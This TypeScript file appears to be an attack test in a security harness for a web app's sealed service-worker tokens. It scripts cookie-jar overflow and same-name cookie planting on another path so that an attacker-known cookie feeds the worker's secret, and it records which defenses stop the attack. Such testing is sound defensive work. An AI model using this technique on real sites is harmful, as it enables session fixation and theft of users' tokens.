/**
 * Gives the browser a cookie that the attacker knows, in the place of the one from which the worker's secret is made: the jar is
 * made to overflow, and the same name is set on other paths. Whoever knows the cookie gets the same secret from outside.
 */
import type { Tab } from '../support/browser.js';
import { attack } from './support/attack.js';
import { askFromOutside, type Heard } from './support/attacker.js';
import { signedInAs } from './support/modes.js';
import { stopped } from './support/outcome.js';
import { AS_A_WORKER, secretsIn } from './support/sealing.js';

const NO_COOKIE = stopped('nothing in the worker depends on a cookie that names the browser');
const BY_PREFIX = stopped('on https the cookie has the prefix `__Host-Http-`: no script can set it');

const cookieIn = ({ headers }: Heard): string => [headers['set-cookie'] ?? []].flat()[0]?.split(';')[0] ?? '';

/** The same name on a longer path, whose cookie is sent first; then, in a jar that has overflowed and forgotten what it had, the same cookie. */
function plant(tab: Tab, cookie: string, script: string): Promise<void> {
  return tab.run(
    async ([planted, path]) => {
      const secure = location.protocol === 'https:' ? '; secure' : '';
      // The worker's script is asked for anew, as it is now and then anyway.
      const update = async (): Promise<unknown> => (await navigator.serviceWorker.getRegistration())?.update().catch(() => undefined);
      document.cookie = `${planted}; path=${path}${secure}`;
      await update();
      document.cookie = `${planted}; path=${path}${secure}; max-age=0`;
      const many = Array.from({ length: 800 }, (_, index) => `overflow${String(index)}`);
      for (const name of many) document.cookie = `${name}=x; path=/${secure}`;
      for (const name of many) document.cookie = `${name}=; path=/; max-age=0${secure}`;
      // What a page writes is not yet there for other requests, unless the page has read it again.
      while (document.cookie.includes('overflow')) await new Promise((resolve) => setTimeout(resolve, 20));
      document.cookie = `${planted}; path=/${secure}; max-age=86400; samesite=strict`;
      for (let looks = 0; looks < 25 && !document.cookie.includes(planted); looks += 1) await new Promise((resolve) => setTimeout(resolve, 20));
      await update();
    },
    [cookie, script] as const,
  );
}

attack('Fix the cookie that the secret is made of: overflow of the jar, the same name on another path', {
  engines: 'all',
  site: { http2: true },
  expected: { indexeddb: NO_COOKIE, memory: NO_COOKIE, sealed: BY_PREFIX, 'sealed + proof': BY_PREFIX },
  steps: async ({ tab, site, worker, sealed }) => {
    const own = await askFromOutside(site.origin + worker, { headers: AS_A_WORKER });
    const before = sealed().length;
    await plant(tab, cookieIn(own) || 'token-worker-browser=of-the-attacker', worker);
    return { known: secretsIn(own.body), given: sealed().slice(before).flatMap(({ secrets }) => secrets) };
  },
  succeeded: (loot) => {
    const { known, given } = loot as { known: string[]; given: string[] };
    return given.some((secret) => known.includes(secret));
  },
  control: {
    safeIn: { webkit: 'its cookie jar forgets none of a host’s cookies, however many there are' },
    name: 'http://localhost, where the cookie can have no prefix',
    victim: (stage) => signedInAs(stage, { refreshTokenIn: 'worker', storage: 'sealed', hasProof: false }),
  },
});
